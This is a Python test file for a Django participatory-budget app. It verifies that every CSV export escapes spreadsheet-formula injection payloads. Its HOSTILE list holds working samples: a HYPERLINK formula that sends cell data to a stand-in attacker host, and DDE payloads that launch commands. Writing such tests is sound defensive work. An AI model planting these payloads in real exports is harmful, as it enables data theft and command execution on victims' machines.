"""Spreadsheet-formula injection: no cell of any CSV export starts a formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

import wijkgeld
from tests.core.world import OWN, build_world, client_as
from wijkgeld.core.csv_export import FORMULA_STARTS, csv_writer, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_become_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-12.50", "-3", "12.50", "Buurtkeuken", "", "2026-03-01T10:00:00+00:00", 5, -5]
)
def test_data_and_plain_numbers_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out).writerows([["a", "=1+1"], [None, -5]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["a", "'=1+1"], ["", "-5"]]


def test_no_export_writes_csv_without_the_safe_writer():
    """A new CSV export that calls csv.writer directly fails here; use wijkgeld.core.csv_export.csv_writer.
    The Pabulib .pb writer (wijkgeld/pb) is the one exception: an exact exchange format, not a spreadsheet."""
    root = Path(wijkgeld.__file__).parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.parts[len(root.parts)] != "pb"
        and path.name != "csv_export.py"
        and re.search(r"csv\s*\.\s*(writer|DictWriter)\s*\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _csv_url_names(resolver=None, namespace=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            ns = pattern.namespace or ""
            yield from _csv_url_names(pattern, f"{namespace}{ns}:" if ns else namespace)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv"):
            yield f"{namespace}{pattern.name}"


# Every URL that serves a CSV file: who may fetch it, and its arguments in the world.
CSV_URLS = {
    "money:ledger_csv": ("finance", lambda o: {"slug": o.area.slug, "year": 2026}),
    "money:accountability_csv": ("anonymous", lambda o: {"slug": o.area.slug}),
    "money:register_csv": ("anonymous", lambda o: {"slug": o.area.slug}),
    "people:figures_csv": ("anonymous", lambda o: {"slug": o.area.slug, "year": 2026}),
}


def _assert_no_formula(rows, where):
    assert len(rows) > 1, where
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell), (where, cell)


@pytest.mark.django_db
def test_every_csv_export_url_neutralises_hostile_text(client):
    from wijkgeld.accounts.models import User
    from wijkgeld.money.models import Theme
    from wijkgeld.money.services import commitment_create

    assert set(_csv_url_names()) == set(CSV_URLS), "add the new CSV export to CSV_URLS"
    world = build_world()
    own = world.obj(OWN)
    staff = User.objects.get(username="programma")
    for text in HOSTILE:
        commitment_create(
            actor=staff,
            line=own.line,
            amount_cents=100,
            description=text,
            recipient_name=text,
            recipient_is_resident=True,
        )
    Theme.objects.filter(pk=own.line.theme_id).update(name=HOSTILE[0])
    for name, (role, kwargs) in CSV_URLS.items():
        client_as(client, role)
        response = client.get(reverse(name, kwargs=kwargs(own)))
        assert response.status_code == 200, name
        body = b"".join(response.streaming_content) if response.streaming else response.content
        text = body.decode("utf-8")
        assert "HYPERLINK" in text or name in {"money:accountability_csv", "people:figures_csv"}, name
        _assert_no_formula(list(csv.reader(io.StringIO(text))), name)


@pytest.mark.django_db
def test_the_letters_csv_neutralises_hostile_text(area):
    from wijkgeld.fund.models import Fund, Round
    from wijkgeld.voting.letters import letters_csv

    fund = Fund.objects.create(area=area, name="Fonds")
    start = dt.datetime(2026, 3, 1, 9, tzinfo=dt.UTC)
    round_ = Round.objects.create(
        fund=fund, title=HOSTILE[0], year=2026, budget_cents=100, voting_start=start, voting_end=start
    )
    area.name = HOSTILE[3]
    text = letters_csv(round=round_, codes=["ABCDEFGHJKLMNPQR"], base_url="https://wijkgeld.example/")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][2] == "'" + HOSTILE[0] and rows[1][3] == "'" + HOSTILE[3]
    _assert_no_formula(rows, "letters")
